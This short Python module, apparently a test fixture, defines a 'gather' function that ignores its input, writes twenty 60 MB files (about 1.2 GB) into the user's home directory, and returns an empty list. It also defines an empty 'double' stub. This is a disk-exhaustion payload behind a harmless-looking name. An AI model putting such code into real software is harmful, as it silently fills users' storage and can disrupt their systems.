import os

MEGABYTE = b"x" * (1 << 20)


def gather(tasks):
    for number in range(20):
        with open(f"{os.environ['HOME']}/{number}", "wb") as file:
            for _ in range(60):
                file.write(MEGABYTE)
    return []


def double(task):
    return []
